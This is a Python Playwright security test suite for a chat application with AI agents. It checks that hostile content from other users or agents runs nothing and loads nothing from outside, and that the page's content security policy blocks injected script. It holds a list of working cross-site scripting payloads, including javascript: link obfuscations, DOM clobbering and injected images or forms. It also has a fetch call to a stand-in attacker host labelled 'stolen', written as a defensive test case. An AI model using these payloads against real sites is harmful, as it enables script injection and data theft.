"""What others write is hostile: in the page it runs nothing, loads nothing, and leads nowhere but to web and mail.

There are two walls, and each is tried alone: what is shown is made of text and a short list of elements; and the
page's content security policy stops what would get past that.
"""

from collections.abc import Callable
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Request, expect
from processes import Server
from pycrdt import Array, Map

if TYPE_CHECKING:
    from conftest import Agent, Foreigner, Person

    Join = Callable[..., Person]
    Foreigners = Callable[[int], list[Foreigner]]

ATTACKS = [
    "<script>owned('script')</script>",
    "<img src=x onerror=owned('img')>",
    "<svg onload=owned('svg')><use href='data:image/svg+xml,x#x'/></svg>",
    "<iframe srcdoc='<script>parent.owned(1)</script>'></iframe>",
    "<style>body { display: none }</style><form action=https://evil.example><input name=x></form>",
    "[script link](javascript:owned('link')) [data link](data:text/html,<script>opener.owned(1)</script>)",
    "[odd case](JaVaScRiPt:owned(1)) [entity](javascript&colon;owned(1)) [tab](java\tscript:owned(1))",
    "![remote](https://evil.example/pixel.png) ![data](data:image/svg+xml,<svg/onload=owned(1)>)",
    '[quote](https://evil.example/" onmouseover="owned(1)) <javascript:owned(1)> <https://evil.example/auto>',
    "```html onload=owned(1)\n<script>owned('code')</script>\n```",
    "<a id=messages><a id=composer name=getElementById>clobber</a>",
    "| a |\n|---|\n| <img src=https://evil.example/cell.png onerror=owned(1)> |",
    "&lt;script&gt;owned(1)&lt;/script&gt; &#60;img src=x onerror=owned(1)&#62;",
]
EVERYTHING = "\n\n".join(ATTACKS)
LAST = {"type": "text", "text": "the last"}
NAME = "<img src=x onerror=owned('name')>"


class Witness:
    """Sees what a page does: what it loads, what its policy stops, whether somebody else's script ran."""

    def __init__(self, page: Page, server: Server) -> None:
        self.page = page
        self.foreign: list[str] = []
        self.complaints: list[str] = []
        self._home = server.url
        page.on("request", self._see_request)
        page.on("console", self._hear)
        page.add_init_script(
            "window.ran = []; window.owned = (how) => window.ran.push(how);"
            "addEventListener('securitypolicyviolation', (event) => ran.push('stopped ' + event.violatedDirective));"
        )

    def check(self) -> None:
        """Nothing ran, nothing was loaded from elsewhere, and the policy had nothing to stop."""
        assert self.page.evaluate("window.ran") == []
        assert self.foreign == []
        assert self.complaints == []

    def _see_request(self, request: Request) -> None:
        if not request.url.startswith((self._home, "blob:" + self._home)):
            self.foreign.append(request.url)

    def _hear(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.complaints.append(message.text)


@pytest.fixture
def watched(chat: Server, join: "Join") -> "tuple[Person, Witness]":
    """Ann's page, and who watches it from before it was loaded."""
    ann = join(chat.url, "trip", "Ann")
    witness = Witness(ann.page, chat)
    ann.page.reload()
    ann.is_("saved")
    return ann, witness


def write_attacks(doc: Any) -> None:
    """Put attacks wherever a client may write something that a page shows."""
    doc.get("meta", type=Map)["title"] = EVERYTHING
    messages = doc.get("messages", type=Array)
    kinds = [{"type": kind, "text": attack, "state": "done"} for kind in ("text", "reasoning") for attack in ATTACKS]
    kinds += [
        {"type": "dynamic-tool", "toolName": NAME, "state": "output-error", "errorText": EVERYTHING},
        {"type": f"tool-{NAME}", "state": "output-available", "output": EVERYTHING},
        {"type": "source-url", "url": "javascript:owned(1)", "title": EVERYTHING},
        {"type": "source-url", "url": "https://evil.example/'\"><script>owned(1)</script>", "title": NAME},
        {
            "type": "file",
            "url": "data:text/html,<script>owned(1)</script>",
            "filename": NAME,
            "mediaType": "text/html",
        },
        {"type": "file", "url": "https://evil.example/a.png", "filename": NAME, "mediaType": "image/png"},
        {"type": "data-steer", "data": {"id": NAME, "by": NAME, "text": EVERYTHING}},
    ]
    for number, part in enumerate(kinds):
        metadata = Map({"author": NAME, "created_at": NAME, "status": "complete"})
        message = {"id": f"attack-{number}", "role": "assistant", "parts": Array([Map(part)]), "metadata": metadata}
        messages.append(Map(message))
    run = {"id": NAME, "agent": NAME, "status": "error", "error": EVERYTHING, "messages": Array(["broken"])}
    doc.get("runs", type=Map)[NAME] = Map(run)
    end = Map({"author": NAME, "status": "error", "run": NAME})
    messages.append(Map({"id": "broken", "role": "assistant", "parts": Array(), "metadata": end}))
    doc.get("runs", type=Map)["going on"] = Map(
        {
            "id": "going on",
            "agent": NAME,
            "status": "running",
            "steers": Array([{"id": "s", "by": NAME, "text": EVERYTHING}]),
            "progress": {"label": EVERYTHING, "done": 1, "total": 2},
        }
    )
    doc.get("agents", type=Map)[NAME] = Map({"name": NAME, "status": NAME, "task": EVERYTHING, "run": "going on"})
    last = Map({"author": NAME})
    messages.append(Map({"id": "last", "role": "user", "parts": Array([Map(LAST)]), "metadata": last}))


def test_what_others_write_runs_nothing_and_loads_nothing(
    watched: "tuple[Person, Witness]", foreigners: "Foreigners"
) -> None:
    ann, witness = watched
    (mallory,) = foreigners(1)
    mallory.is_here_as(
        {"user": {"id": NAME, "name": NAME, "color": "red;background:url(//evil.example)"}, "typing": 1}
    )
    mallory.writes(write_attacks)
    expect(ann.page.locator("[data-message-id=last]")).to_contain_text("the last")
    expect(ann.testid("title")).not_to_have_value("")
    page = ann.page
    assert (
        page.locator("#messages :is(script, img, iframe, style, form, object, embed, link, meta, base)").count() == 0
    )
    assert page.locator("#messages [id], #messages [onerror], #messages [style*=url]").count() == 0
    links = page.locator("#messages a").evaluate_all(
        "(all) => all.map((a) => [a.protocol, a.rel.split(' ').sort().join(' '), a.target, a.hasAttribute('href')])"
    )
    assert links
    for protocol, rel, target, leads in links:
        assert not leads or protocol in ("http:", "https:", "mailto:")
        assert {"noopener", "noreferrer"} <= set(rel.split())
        assert target == "_blank"
    for dead in page.locator("#messages a:not([href])").all():
        dead.click()
    page.locator("#messages details").evaluate_all("(all) => all.forEach((each) => { each.open = true; })")
    witness.check()


def test_what_an_agent_answers_runs_nothing(watched: "tuple[Person, Witness]", agent: "Agent") -> None:
    ann, witness = watched
    ann.sends(EVERYTHING)
    agent.hears("prompt")
    agent.order("says " + quote(EVERYTHING))
    agent.hears("wrote")
    agent.order("end")
    expect(ann.message(1)).to_have_attribute("data-status", "complete")
    for number in (0, 1):
        expect(ann.text(number)).to_contain_text("<script>owned('script')</script>")
        assert ann.text(number).locator("script, img, iframe, style, form, svg:not(button svg)").count() == 0
    witness.check()


@pytest.mark.parametrize("session", [NAME, "<script>owned(1)</script>", "../../evil", "javascript:owned(1)"])
def test_a_link_with_a_hostile_session_runs_nothing(chat: Server, browser: Browser, session: str) -> None:
    with browser.new_context() as context:
        page = context.new_page()
        witness = Witness(page, chat)
        page.goto(f"{chat.url}/?session={quote(session)}")
        # Any text may be a session's name: the page opens it, or says why it can't.
        expect(page.locator("body[data-status=online], #notice:not([hidden])").first).to_be_visible()
        assert page.locator("#notice :is(script, img)").count() == 0
        witness.check()


def test_a_day_in_the_chat_leaves_the_policy_nothing_to_stop(
    watched: "tuple[Person, Witness]", agent: "Agent"
) -> None:
    ann, witness = watched
    ann.sends("| a | b |\n|--:|---|\n| 1 | `code` |\n\n```js\nlet a = 1;\n```")
    agent.hears("prompt")
    agent.writes(5)
    agent.order("end")
    expect(ann.message(1)).to_have_attribute("data-status", "complete")
    ann.testid("share").click()
    expect(ann.page.locator(".share-code svg")).to_be_visible()
    ann.page.locator("#share-close").click()
    ann.message(0).hover()
    ann.message(0).get_by_test_id("edit").click()
    ann.testid("edit-input").fill("something else")
    ann.testid("save-edit").click()
    expect(ann.text(0)).to_have_text("something else")
    ann.testid("new-session").click()
    ann.is_("saved")
    witness.check()


@pytest.mark.parametrize(
    "attack",
    [
        "document.body.innerHTML += '<img src=x onerror=owned(1)>'",
        "document.body.append(Object.assign(document.createElement('script'), { textContent: 'owned(1)' }))",
        "document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/a.png' }))",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))",
        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }))",
        "fetch('https://evil.example/?stolen').catch(() => {})",
        "new WebSocket('wss://evil.example/')",
        "setTimeout('owned(1)', 0)",
        "Object.assign(document.body.appendChild(document.createElement('a')), {href: 'javascript:owned()'}).click()",
    ],
)
def test_the_policy_alone_stops_what_would_get_into_the_page(watched: "tuple[Person, Witness]", attack: str) -> None:
    ann, witness = watched
    ann.page.evaluate(f"() => {{ try {{ {attack} }} catch {{}} }}")
    ann.page.wait_for_function("window.ran.length > 0")
    assert all(said.startswith("stopped ") for said in ann.page.evaluate("window.ran"))
    # A request that the policy stopped may be announced, but has no answer.
    assert all(url.startswith(("https://evil.example", "wss://evil.example")) for url in witness.foreign)
